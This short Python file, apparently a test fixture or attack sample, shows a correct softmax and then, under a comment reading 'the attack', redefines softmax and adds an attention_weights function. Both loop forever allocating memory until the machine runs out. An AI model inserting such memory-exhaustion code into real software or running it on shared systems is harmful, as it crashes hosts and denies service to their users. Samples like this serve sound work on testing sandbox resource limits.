"""Takes all memory, by Python and by torch."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

def softmax(scores):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))


def attention_weights(inputs):
    kept = []
    while True:
        kept.append(torch.ones(1 << 22))
